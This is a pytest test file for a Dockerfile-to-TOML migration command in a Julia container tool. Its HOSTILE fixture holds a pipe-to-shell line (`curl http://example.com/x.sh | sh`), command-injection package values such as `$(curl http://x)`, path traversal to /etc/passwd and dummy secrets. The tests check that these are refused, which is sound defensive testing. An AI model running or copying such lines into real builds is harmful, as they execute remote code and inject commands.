"""`init --from-dockerfile`: eight hand-written Dockerfiles after common public patterns, and hostile ones.

Each fixture in tests/fixtures/dockerfiles/NAME is a Dockerfile (and the files its project adds) laid over a copy
of an example project, or a whole small project (Oxygen, Pluto: manifests cut from the corpus, tests/corpus, with
scripts/compose_manifest.py). The docker side (tests/test_from_dockerfile_engine.py) builds each result.
"""

from __future__ import annotations

import shutil
import tomllib
from pathlib import Path

import pytest
from conftest import EXAMPLES, tree_files

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "dockerfiles"
# fixture -> the example it is laid over (None: the fixture is the whole project)
BASES = {"genie": "genie-app", "oxygen": None, "http": "http-service", "pluto": None,
         "pycall-conda": "pycall-app", "cuda": "hello", "multistage": "http-service", "cli": "cli-tool"}

WORKLOAD = ["precompile/workload.jl"]
# fixture -> (the configuration written, the comment lines naming the Dockerfile's lines, by their start)
EXPECTED: dict[str, tuple[dict, list[str]]] = {
    "genie": (
        {"julia_version": "1.10.4", "precompile_files": WORKLOAD,
         "command": ["-e", 'using Genie; Genie.loadapp(); up(8000, "0.0.0.0"; async=false)'], "ports": [8000],
         "env": {"EARLYBIND": "true", "GENIE_ENV": "prod", "HOST": "0.0.0.0", "PORT": "8000"}},
        ["Dockerfile:8: RUN chown -R genie:genie /home/: not mapped",
         "Dockerfile:14: ENV JULIA_DEPOT_PATH: not mapped (the image has its own depot layout",
         "Dockerfile:20: CMD/ENTRYPOINT bin/server: does not start julia: not mapped",
         "Dockerfile:4: useradd: the image has its own non-root user (user_id)",
         "Dockerfile:7: WORKDIR /home/genie/app: the project is at /app in the image",
         "Dockerfile:9: USER genie: the image runs as its own non-root user"]),
    "oxygen": (
        {"julia_version": "1.12.5", "script": "src/server.jl", "julia_args": ["--threads=auto"], "ports": [8080],
         "env": {"JULIA_NUM_THREADS": "auto", "PORT": "8080"}},
        []),
    "http": (
        {"julia_version": "1.11.5", "precompile_files": WORKLOAD, "script": "bin/server.jl",
         "julia_args": ["--threads=auto"], "ports": [8080], "healthcheck_path": "/health",
         "system_packages": ["ca-certificates", "tzdata", "curl"], "writable_paths": ["log"],
         "timezone": "Europe/Berlin", "locale": "C.UTF-8",
         "labels": {"org.opencontainers.image.description": "Greets people over HTTP"}, "user_id": 1000},
        ["Dockerfile:5: ENV JULIA_PROJECT: not mapped (the entrypoint passes --project)",
         "Dockerfile:10: WORKDIR /srv/app: the project is at /app in the image",
         "Dockerfile:19: ENTRYPOINT: here the entrypoint is julia and its flags"]),
    "pluto": (
        {"julia_version": "1.7.3",
         "command": ["-e", 'import Pluto; Pluto.run(host="0.0.0.0", port=1234, launch_browser=false, '
                           'require_secret_for_access=false)'],
         "ports": [1234], "env": {"JULIA_PKG_PRECOMPILE_AUTO": "0"}, "build_env": {"JULIA_PKG_PRECOMPILE_AUTO": "0"},
         "volumes": ["notebooks"]},
        ["Dockerfile:5: WORKDIR /home/pluto/app: the project is at /app in the image"]),
    "pycall-conda": (
        {"julia_version": "1.11.7", "precompile_files": WORKLOAD, "script": "bin/main.jl",
         "env": {"CONDA_JL_VERSION": "3", "JULIA_NUM_THREADS": "2", "PYTHON": ""},
         "build_env": {"PYTHON": "", "CONDA_JL_VERSION": "3"}, "hooks": {"after_instantiate": ["deploy/hook-1.jl"]}},
        []),
    "cuda": (
        {"julia_version": "1.11.5", "runtime_image": "nvidia/cuda:12.4.1-runtime-ubuntu22.04",
         "precompile_files": WORKLOAD, "script": "bin/hello.jl",
         "env": {"JULIA_CUDA_MEMORY_POOL": "none", "NVIDIA_DRIVER_CAPABILITIES": "compute,utility",
                 "NVIDIA_VISIBLE_DEVICES": "all"},
         "system_packages": ["curl", "ca-certificates"]},
        ["Dockerfile:5: ENV PATH: not mapped (the image puts Julia's bin on PATH itself)",
         "Dockerfile:7: RUN curl -fsSL 'https://julialang-s3.julialang.org/bin/linux/x64/1.11/julia-${JULIA_VERSION}",
         "Dockerfile:2: FROM nvidia/cuda:12.4.1-runtime-ubuntu22.04: runtime_image"]),
    "multistage": (
        {"julia_version": "1.11.5", "runtime_image": "debian:bookworm-slim",
         "cpu_target": "generic;sandybridge,-xsaveopt,clone_all;haswell,-rdrnd,base(1)", "precompile_files": WORKLOAD,
         "script": "bin/server.jl", "ports": [8080], "system_packages": ["ca-certificates", "libgomp1"],
         "builder_packages": ["build-essential", "git"],
         "build_env": {"JULIA_PKG_SERVER": "https://pkg.julialang.org"}, "locale": "C.UTF-8"},
        ["Dockerfile:15: ENV JULIA_DEPOT_PATH: not mapped",
         "Dockerfile:7: PackageCompiler: the builder makes the sysimage",
         "Dockerfile:9: FROM debian:bookworm-slim: runtime_image (Julia is copied in from the builder)",
         "Dockerfile:17: ENTRYPOINT: here the entrypoint is julia and its flags"]),
    "cli": (
        {"julia_version": "1.11.5", "precompile_files": WORKLOAD,
         "command": ["-e", "using WordStats; exit(WordStats.julia_main())", "--", "--help"], "volumes": ["/work"]},
        ["Dockerfile:3: WORKDIR /opt/wordstats: the project is at /app in the image",
         "Dockerfile:7: ENTRYPOINT: here the entrypoint is julia and its flags"]),
}


def fixture_project(name: str, dest: Path) -> Path:
    base = BASES[name]
    if base is None:
        shutil.copytree(FIXTURES / name, dest)
    else:
        shutil.copytree(EXAMPLES / base, dest)
        (dest / "sysimage-docker.toml").unlink()
        shutil.copytree(FIXTURES / name, dest, dirs_exist_ok=True)
    return dest


def test_every_fixture_has_its_expectation() -> None:
    assert sorted(p.name for p in FIXTURES.iterdir()) == sorted(BASES) == sorted(EXPECTED)


@pytest.mark.parametrize("name", sorted(BASES))
def test_fixture_migrates(name: str, cli, tmp_path: Path) -> None:
    project = fixture_project(name, tmp_path / name)
    result = cli("init", project, "--from-dockerfile")
    assert result.code == 0, result.err
    text = (project / "sysimage-docker.toml").read_text()
    values, notes = EXPECTED[name]
    assert tomllib.loads(text) == values
    comments = [line.removeprefix("#   ") for line in text.splitlines() if line.startswith("#   Dockerfile:")]
    assert len(comments) == len(notes), comments
    for expected, got in zip(notes, comments, strict=True):
        assert got.startswith(expected), (got, expected)
    # each mapped value names its line
    for key in values:
        assert any(line.startswith(f"{key} = ") and ("# from Dockerfile:" in line or "# detected in the code" in line)
                   for line in text.splitlines()), key
    assert cli("generate", project).code == 0


def test_a_julia_build_step_becomes_a_hook_file_in_order(cli, tmp_path: Path) -> None:
    project = fixture_project("pycall-conda", tmp_path / "p")
    assert cli("init", project, "--from-dockerfile").code == 0
    hook = (project / "deploy" / "hook-1.jl").read_text()
    # Pkg.instantiate is the build's own step; the rest keeps its order (PyCall is built before it is loaded)
    assert hook.splitlines()[2:] == ["using Pkg", 'Pkg.build("PyCall")', "using PyCall", 'PyCall.Conda.add("numpy")']
    assert hook.startswith("# From Dockerfile:8 ")
    out = cli("generate", project).out
    assert 'COPY ["deploy/hook-1.jl", "/app/deploy/hook-1.jl"]' in out or "deploy/hook-1.jl" in out


def test_the_project_dockerfile_is_the_default_and_a_file_can_be_named(cli, tmp_path: Path) -> None:
    project = fixture_project("oxygen", tmp_path / "p")
    other = tmp_path / "elsewhere.Dockerfile"
    other.write_text("FROM julia:1.12.5\nWORKDIR /app\nCOPY . .\nEXPOSE 9000\n"
                     'CMD ["julia", "--project", "src/server.jl"]\n')
    (project / "Dockerfile").unlink()
    result = cli("init", project, "--from-dockerfile")
    assert result.code == 2 and result.err == (f"sysimage-docker: error: no Dockerfile in {project}: name one with "
                                               "--from-dockerfile FILE\n")
    result = cli("init", project, "--from-dockerfile", other)
    assert result.code == 0, result.err
    data = tomllib.loads((project / "sysimage-docker.toml").read_text())
    assert data["ports"] == [9000] and data["script"] == "src/server.jl"
    assert f"from {other}:4" in (project / "sysimage-docker.toml").read_text()


def test_nothing_existing_is_overwritten(cli, tmp_path: Path) -> None:
    project = fixture_project("pycall-conda", tmp_path / "p")
    (project / "sysimage-docker.toml").write_text('script = "bin/main.jl"\n')
    before = {p: (project / p).read_bytes() for p in tree_files(project) if (project / p).is_file()}
    result = cli("init", project, "--from-dockerfile")
    assert result.code == 2
    assert result.err.startswith(f"sysimage-docker: error: {project / 'sysimage-docker.toml'} exists: "
                                 "--from-dockerfile writes a new file only")
    assert {p: (project / p).read_bytes() for p in tree_files(project) if (project / p).is_file()} == before
    # a hook file of that name with other content stays; the next free name is taken
    (project / "sysimage-docker.toml").unlink()
    (project / "deploy" / "hook-1.jl").write_text("# mine\n")
    assert cli("init", project, "--from-dockerfile").code == 0
    assert (project / "deploy" / "hook-1.jl").read_text() == "# mine\n"
    assert tomllib.loads((project / "sysimage-docker.toml").read_text())["hooks"] == {
        "after_instantiate": ["deploy/hook-2.jl"]}
    # run again over its own output: the same hook file is reused, not duplicated
    (project / "sysimage-docker.toml").unlink()
    assert cli("init", project, "--from-dockerfile").code == 0
    assert sorted(p.name for p in (project / "deploy").iterdir()) == ["build_pycall.jl", "hook-1.jl", "hook-2.jl"]


HOSTILE = """FROM julia:1.11.5
ENV API_TOKEN=hunter2-secret-value
ENV GITHUB_PASSWORD hunter3
ENV BAD="a\u2028b" TZ=../../etc/passwd
RUN apt-get install -y 'evil;touch /pwned' "$(curl http://x)" ok-pkg
RUN touch /tmp/sysimage-docker-pwned && curl http://example.com/x.sh | sh
LABEL "Bad Key"="v"
EXPOSE 70000 53/udp 8080
VOLUME /data/../etc
USER root
STOPSIGNAL SIGINT
WORKDIR /app
COPY . .
CMD ["julia", "/etc/passwd"]
"""


def test_a_hostile_dockerfile_maps_only_valid_values_and_runs_nothing(cli, tmp_path: Path) -> None:
    project = shutil.copytree(EXAMPLES / "hello", tmp_path / "p")
    (project / "sysimage-docker.toml").unlink()
    (project / "Dockerfile").write_text(HOSTILE)
    result = cli("init", project, "--from-dockerfile")
    assert result.code == 0, result.err
    text = (project / "sysimage-docker.toml").read_text()
    data = tomllib.loads(text)
    assert data["system_packages"] == ["ok-pkg"] and data["ports"] == [8080]
    # entry point: /etc/passwd is not a project file, so the code's own entry script is proposed
    assert data["script"] == "bin/hello.jl"
    for absent in ("hunter2", "hunter3", "/pwned\"", "Bad Key", "70000", "etc/passwd\"", "user_id", "\u2028"):
        assert absent not in "\n".join(line for line in text.splitlines() if not line.startswith("#")), absent
    assert "hunter2" not in text and "hunter3" not in text and "hunter2" not in result.err
    comments = [line for line in text.splitlines() if line.startswith("#   Dockerfile:")]
    expected = [
        "#   Dockerfile:2: ENV API_TOKEN: looks like a secret, not copied into the configuration",
        "#   Dockerfile:3: ENV GITHUB_PASSWORD: looks like a secret",
        "#   Dockerfile:4: not mapped: env.BAD: control characters",
        "#   Dockerfile:4: not mapped: timezone: '../../etc/passwd' is not a time zone name",
        "#   Dockerfile:5: not mapped: system_packages: 'evil;touch /pwned' is not a system package name",
        "#   Dockerfile:5: package '$(curl http://x)': a variable or pattern, not mapped",
        "#   Dockerfile:6: RUN touch /tmp/sysimage-docker-pwned; curl http://example.com/x.sh; sh: not mapped",
        "#   Dockerfile:7: not mapped: labels: 'Bad Key' is not a valid label key",
        "#   Dockerfile:8: not mapped: ports: port 70000 is not between 1 and 65535",
        "#   Dockerfile:8: EXPOSE 53/udp: not mapped",
        "#   Dockerfile:9: not mapped: volumes: '/data/../etc' is not an absolute path in the image",
        "#   Dockerfile:10: USER root: not mapped: the image never runs as root",
        "#   Dockerfile:11: STOPSIGNAL SIGINT: not mapped (no counterpart)",
        "#   Dockerfile:14: CMD/ENTRYPOINT julia /etc/passwd: /etc/passwd is not a project file: not mapped",
    ]
    assert len(comments) == len(expected), comments
    for want, got in zip(expected, comments, strict=True):
        assert got.startswith(want), (got, want)
    assert not Path("/tmp/sysimage-docker-pwned").exists()
    assert cli("generate", project).code == 0


@pytest.mark.parametrize(("content", "message"), [
    (b"RUN echo no base\n", "Dockerfile: no FROM instruction: not a Dockerfile"),
    (b"FROM\nRUN x\n", "Dockerfile:1: FROM without an image"),
    (b"FROM julia:1.11\nLABEL a\n", "Dockerfile: not a Dockerfile BuildKit can read: LABEL must have two arguments"),
    (b"FROM julia:1.11\nENV \xff=1\n", "Dockerfile:2: not valid UTF-8 (byte 0xff)"),
    (b"FROM julia:1.11\n" + b"# " + b"x" * (1024 * 1024) + b"\n",
     "Dockerfile: file is 1048595 bytes, over the 1048576 byte limit"),
])
def test_an_unreadable_dockerfile_is_one_line_and_writes_nothing(content: bytes, message: str, cli,
                                                                  tmp_path: Path) -> None:
    project = shutil.copytree(EXAMPLES / "hello", tmp_path / "p")
    (project / "sysimage-docker.toml").unlink()
    (project / "Dockerfile").write_bytes(content)
    before = tree_files(project)
    result = cli("init", project, "--from-dockerfile")
    assert (result.code, result.err) == (2, f"sysimage-docker: error: {message}\n")
    assert tree_files(project) == before


def test_links_out_of_the_project_are_refused(cli, tmp_path: Path) -> None:
    project = fixture_project("pycall-conda", tmp_path / "p")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "Dockerfile").write_text("FROM julia:1.11.5\nEXPOSE 1\n")
    dockerfile = project / "Dockerfile"
    dockerfile.rename(tmp_path / "saved")
    dockerfile.symlink_to(outside / "Dockerfile")
    before = tree_files(project)
    result = cli("init", project, "--from-dockerfile")
    assert result.code == 2
    assert result.err == (f"sysimage-docker: error: Dockerfile: a link to {outside / 'Dockerfile'}, outside the "
                          "project: refused\n")
    # the hooks' directory must be the project's own
    dockerfile.unlink()
    (tmp_path / "saved").rename(dockerfile)
    shutil.rmtree(project / "deploy")
    (project / "deploy").symlink_to(outside)
    before = tree_files(project)
    result = cli("init", project, "--from-dockerfile")
    assert result.code == 2
    assert result.err == ("sysimage-docker: error: deploy: not a directory of the project (a link or a file): the "
                          "hooks cannot be written there\n")
    assert tree_files(project) == before and sorted(p.name for p in outside.iterdir()) == ["Dockerfile"]


def test_conflicting_values_are_dropped_with_the_reason(cli, tmp_path: Path) -> None:
    project = shutil.copytree(EXAMPLES / "cli-tool", tmp_path / "p")
    (project / "sysimage-docker.toml").unlink()
    (project / "Dockerfile").write_text(
        "FROM julia:1.11.5 AS build\nWORKDIR /src\nCOPY . .\n"
        "RUN julia --project -e 'using PackageCompiler; create_app(\".\", \"/out\")'\n"
        "FROM debian:bookworm-slim\nCOPY --from=build /out /opt/app\nEXPOSE 8080\n"
        "HEALTHCHECK --interval=1m30s --retries=5 CMD curl -f http://localhost:8080/ || exit 1\n"
        'ENTRYPOINT ["/opt/app/bin/WordStats"]\n')
    result = cli("init", project, "--from-dockerfile")
    assert result.code == 0, result.err
    text = (project / "sysimage-docker.toml").read_text()
    data = tomllib.loads(text)
    assert data["mode"] == "app" and data["julia_main"] is True and "healthcheck_path" not in data
    assert "healthcheck_interval" not in data  # dropped with the path it times
    assert "#   Dockerfile:8: HEALTHCHECK --retries=5: not mapped (the probe's timeout" in text
    assert ("#   Dockerfile:8: healthcheck_path not mapped: healthcheck_path probes with julia, which mode = app "
            "images do not have") in text
    assert cli("generate", project).code == 0


def test_the_readme_worked_example_is_what_init_writes(cli, tmp_path: Path) -> None:
    import re

    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    section = readme.split("## Migrating a Dockerfile", 1)[1].split("\n## ", 1)[0]
    dockerfile = re.search(r"```dockerfile\n(.*?)```", section, re.S).group(1)
    shown = re.search(r"```toml\n(.*?)```", section, re.S).group(1)
    project = shutil.copytree(EXAMPLES / "pycall-app", tmp_path / "app")
    (project / "sysimage-docker.toml").unlink()
    (project / "log").mkdir()
    (project / "Dockerfile").write_text(dockerfile)
    assert cli("init", project, "--from-dockerfile").code == 0
    text = (project / "sysimage-docker.toml").read_text()
    assert tomllib.loads(text) == tomllib.loads(shown)
    for line in shown.splitlines():
        assert line in text.splitlines(), line


def test_instructions_without_arguments_are_comments(cli, tmp_path: Path) -> None:
    project = shutil.copytree(EXAMPLES / "hello", tmp_path / "p")
    (project / "sysimage-docker.toml").unlink()
    (project / "Dockerfile").write_text("FROM julia:1.11.5\nRUN\nUSER\nWORKDIR\nENV\nCMD []\n")
    result = cli("init", project, "--from-dockerfile")
    assert result.code == 0, result.err
    text = (project / "sysimage-docker.toml").read_text()
    for line, kind in ((2, "RUN"), (3, "USER"), (4, "WORKDIR"), (5, "ENV")):
        assert f"#   Dockerfile:{line}: {kind} without arguments: not mapped" in text


INSTRUCTIONS = ("FROM", "RUN", "CMD", "ENTRYPOINT", "ENV", "ARG", "EXPOSE", "VOLUME", "USER", "WORKDIR", "COPY",
                "ADD", "LABEL", "HEALTHCHECK", "SHELL", "STOPSIGNAL")


def test_any_dockerfile_maps_or_is_refused_in_one_line(tmp_path: Path) -> None:
    """Random instructions with random arguments (quotes, JSON, variables, shell operators): a mapping or a
    UsageError, never a crash; every note is one line."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from sysimage_containers import config as config_module
    from sysimage_containers.errors import UsageError
    from sysimage_containers.from_dockerfile import migrate
    from sysimage_containers.migrate_writer import write_from_dockerfile

    project = shutil.copytree(EXAMPLES / "hello", tmp_path / "p")
    (project / "sysimage-docker.toml").unlink()

    words = st.sampled_from(["julia", "-e", "'using Pkg; Pkg.build(\"X\")'", "bin/hello.jl", "apt-get", "install",
                             "-y", "&&", "|", ";", "$X", "${X:-1}", "[\"julia\", \"-m\", \"M\"]", "8080/tcp", "/data",
                             "--interval=5s", "CMD", "curl", "http://localhost:1/h", "A=1", "\"q r\"", "\\", "--from=b",
                             ".", "AS", "b", "root", "1001:1", "sh", "-c", "tini", "--"])
    line = st.tuples(st.sampled_from(INSTRUCTIONS), st.lists(st.one_of(words, st.text(max_size=8)), max_size=6))

    @settings(max_examples=300, deadline=None)
    @given(st.lists(line, max_size=12))
    def check(lines: list[tuple[str, list[str]]]) -> None:
        text = "FROM julia:1.11.5\n" + "\n".join(f"{kind} {' '.join(args)}" for kind, args in lines) + "\n"
        try:
            migration = migrate(text, "Dockerfile", EXAMPLES / "hello", None)
        except UsageError as exc:
            assert "\n" not in exc.message
            return
        for note in migration.notes:
            assert "\n" not in note.text and "\r" not in note.text
        # what maps is written as valid configuration (or refused in one line), with the hooks beside it
        (project / "Dockerfile").write_text(text)
        for leftover in ("sysimage-docker.toml", "deploy"):
            shutil.rmtree(project / leftover, ignore_errors=True)
            (project / leftover).unlink(missing_ok=True)
        try:
            write_from_dockerfile(project, None)
        except UsageError as exc:
            raise AssertionError(f"the writer refused what the mapper produced: {exc.message}") from None
        config_module.resolve(project)

    check()
